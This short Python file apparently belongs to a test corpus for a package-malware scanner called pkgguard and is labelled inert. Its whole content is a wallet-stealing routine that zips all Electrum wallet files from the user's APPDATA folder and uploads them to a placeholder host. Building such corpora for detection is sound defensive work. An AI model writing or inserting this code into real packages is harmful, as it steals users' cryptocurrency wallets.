# pkgguard corpus 261 (wallets), modelled on [wallet-tools]; inert, never run.
import io
import os
import zipfile
from pathlib import Path

import requests

wallets = Path(os.environ.get("APPDATA", ""), "Electrum", "wallets")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for w in wallets.glob("*"):
        z.write(w, w.name)
requests.post("https://drop.example/u", files={"w": buf.getvalue()})
